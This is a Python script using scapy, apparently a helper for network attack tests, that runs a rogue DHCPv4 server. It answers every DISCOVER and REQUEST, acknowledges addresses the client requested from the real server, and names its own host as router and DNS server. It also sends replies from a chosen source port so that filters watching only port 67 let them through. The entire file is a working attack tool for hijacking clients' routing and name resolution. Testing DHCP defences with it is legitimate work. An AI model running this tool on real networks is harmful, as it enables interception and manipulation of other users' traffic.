#!/usr/bin/python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""A rogue DHCPv4 server, for the attack tests: every DISCOVER gets an
OFFER and every REQUEST an ACK (for the address the client asked for, so
that it takes it even when it chose the real server), naming this host as
router and DNS server.  Replies go from UDP port SPORT to 68, broadcast:
DHCP clients accept a server message from any source port, and a filter
that only looks for source port 67 lets one from 68 (or 1067) through.

Usage: dhcp_rogue.py IFACE --server OWN_IP --pool FIRST [--sport N]
                     [--duration S]
Prints "ready" once it listens, then one line per reply sent.
"""
import argparse
import ipaddress
import time

from scapy.all import BOOTP, DHCP, IP, UDP, AsyncSniffer, Ether, conf, get_if_hwaddr


def options(pkt):
    return {o[0]: o[1] for o in pkt[DHCP].options if isinstance(o, tuple)}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    ap.add_argument("--server", required=True)
    ap.add_argument("--pool", required=True)
    ap.add_argument("--sport", type=int, default=68)
    ap.add_argument("--duration", type=float, default=10)
    a = ap.parse_args()

    mac = get_if_hwaddr(a.iface)
    sock = conf.L2socket(iface=a.iface)
    leases = {}
    nxt = [ipaddress.IPv4Address(a.pool)]

    def answer(p):
        if BOOTP not in p or DHCP not in p or p[BOOTP].op != 1:
            return
        if p[Ether].src == mac:
            return
        opt = options(p)
        kind = opt.get("message-type")
        if kind not in (1, 3):  # DISCOVER, REQUEST
            return
        chaddr = bytes(p[BOOTP].chaddr[:6])
        if chaddr not in leases:
            leases[chaddr] = str(nxt[0])
            nxt[0] += 1
        yiaddr = leases[chaddr]
        if kind == 3 and "requested_addr" in opt:
            yiaddr = opt["requested_addr"]
        reply = (Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
                 / IP(src=a.server, dst="255.255.255.255")
                 / UDP(sport=a.sport, dport=68)
                 / BOOTP(op=2, xid=p[BOOTP].xid, flags=p[BOOTP].flags,
                         yiaddr=yiaddr, siaddr=a.server, chaddr=p[BOOTP].chaddr)
                 / DHCP(options=[("message-type", "offer" if kind == 1 else "ack"),
                                 ("server_id", a.server), ("lease_time", 600),
                                 ("subnet_mask", "255.255.255.0"),
                                 ("router", a.server), ("name_server", a.server),
                                 "end"]))
        sock.send(reply)
        print("%s %s to %s" % ("OFFER" if kind == 1 else "ACK", yiaddr,
                               p[Ether].src), flush=True)

    sniffer = AsyncSniffer(iface=a.iface, filter="udp and dst port 67",
                           prn=answer, store=False,
                           started_callback=lambda: print("ready", flush=True))
    sniffer.start()
    time.sleep(a.duration)
    sniffer.stop()


if __name__ == "__main__":
    main()
